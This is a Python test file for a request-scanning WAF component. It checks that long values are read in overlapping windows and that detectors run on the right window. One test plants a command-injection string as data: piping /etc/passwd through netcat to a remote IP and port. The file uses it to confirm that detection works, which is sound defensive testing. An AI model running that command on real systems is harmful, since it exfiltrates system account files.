"""Long values are read in overlapping windows (extauthz.detect.pipeline.windows)."""
from hypothesis import given, settings, strategies as st

from extauthz.decode import Input
from extauthz.detect.pipeline import LEAD, WINDOW, WINDOW_OVERLAP, windowed, windows


@settings(max_examples=40, deadline=None)
@given(st.text(alphabet="ab \n'<", min_size=WINDOW + 1, max_size=4 * WINDOW), st.data())
def test_windows_cover_every_stretch_as_long_as_the_overlap(value, data):
    ws = windows(value)
    assert ws[0] == value[:len(ws[0])] and ws[-1].endswith(value[-WINDOW_OVERLAP:])
    assert all(0 < len(w) <= WINDOW + LEAD + 1 for w in ws)
    for _ in range(20):
        i = data.draw(st.integers(0, len(value) - WINDOW_OVERLAP))
        assert any(value[i:i + WINDOW_OVERLAP] in w for w in ws)


def test_windows_are_linear_in_the_value():
    value = "word " * 20_000  # 100 KB
    ws = windows(value)
    assert sum(map(len, ws)) <= len(value) * (WINDOW + LEAD) / (WINDOW - WINDOW_OVERLAP) * 1.1


def _lead(value: str, marks: str) -> str:
    """The value's lead as windows() cuts it: up to the last of `marks` within its first LEAD characters."""
    return value[:max(value.rfind(m, 1, LEAD) for m in marks)]


def test_windows_start_after_a_blank_so_words_stay_whole():
    words = [f"w{i}" for i in range(3000)]
    value = " ".join(words)  # no line end or `>`: windows start after a blank
    lead = _lead(value, " ")
    ws = windows(value)
    assert len(ws) > 2
    for w in ws[1:]:
        assert w.startswith(lead) and w[len(lead)] == " ", w[len(lead):len(lead) + 20]
        assert value.find(w[len(lead):]) > 0  # after the lead: the value from just before the window on
        assert w[len(lead) + 1:].split(" ", 1)[0] in words  # a whole word, not its tail


def test_short_values_are_passed_through_untouched():
    inputs = [Input("query", "q", "x" * WINDOW), Input("json", "$.a", "y")]
    wanted = [{1}, {2}]
    assert windowed(inputs, wanted) == (inputs, wanted) and windowed(inputs, wanted)[0] is inputs
    long = Input("json", "$.body", "z " * WINDOW, ("percent",), "raw", "value")
    out, c = windowed([inputs[1], long], [{2}, {3, 4}])
    assert out[0] is inputs[1] and c[0] == {2} and len(out) > 2
    assert all(i.location == "json:$.body" and i.chain == ("percent",) for i in out[1:])
    assert c[1:] == [{3, 4}] * (len(out) - 1)


def test_later_windows_are_read_after_the_value_lead():
    """What readers judge by a value's start stays the value's start: a later window opening
    on `">` or `../` is not a value opening on them."""
    head = "<!DOCTYPE html>\n<html><body>\n"
    value = head + "".join(f'<p class="x"><a href="../../page{i}.html">page {i}</a></p>\n' for i in range(200))
    ws = windows(value)
    lead = _lead(value, "\n>")
    assert len(ws) > 2 and lead.startswith(head) and all(w.startswith(lead) for w in ws)
    for w in ws[1:]:  # the window itself starts at a line end or after a tag, not inside one
        assert w[len(lead)] in "\n>" and value.find(w[len(lead):]) > 0, w[len(lead):len(lead) + 40]


def test_windows_of_a_document_are_read_as_a_document():
    """A window of a minified page may hold no line break: is_document judges the page."""
    from extauthz.lang.markup import is_document, set_document_windows
    page = ("Release notes of the team " * 12 + "\nThe team shipped the new search page this week.\n"
            "Details below.\n" + "<p>The parcel service and the invoice team updated their pages.</p>" * 120)
    assert is_document(page)
    out, _ = windowed([Input("json", "$.page", page)], [set()])
    late = out[-1].value
    try:
        assert late.count("\n") < 2 and is_document(late)
    finally:
        set_document_windows(None)
    assert not is_document(late)  # on its own, one line of text and markup is no document


def test_each_window_runs_the_detectors_its_own_text_triggers():
    """A long text with one command line in it: cmdi reads the window holding it, not every
    window of the text (each window screened by the prefilter, within its value's candidates)."""
    from extauthz.detect import DetectorSet
    from extauthz.request import Hop, Request
    ds = DetectorSet.from_toggles({})
    cmdi = ds.detectors[ds.names.index("cmdi")]
    prose = "The committee reviewed the quarterly figures and agreed on the plan for spring. " * 150
    value = prose + "Run ; cat /etc/passwd | nc 10.0.0.1 4444 to see it. " + prose
    inp = Input("json", "$.text", value)
    assert ds.names.index("cmdi") in ds._prefilter.candidates_each([value])[0]
    read: list[str] = []
    own = cmdi.scan_input
    cmdi.scan_input = lambda i: read.append(i.value) or own(i)
    try:
        request = Request(method="POST", path="/notes", query="", authority="notes.example.com", hop=Hop.EDGE)
        found = ds.scan(request, [inp])
    finally:
        del cmdi.scan_input
    assert len(windows(value)) > 4 and read and all("/etc/passwd" in w for w in read)
    assert any(f.rule.startswith("cmdi.") for f in found)
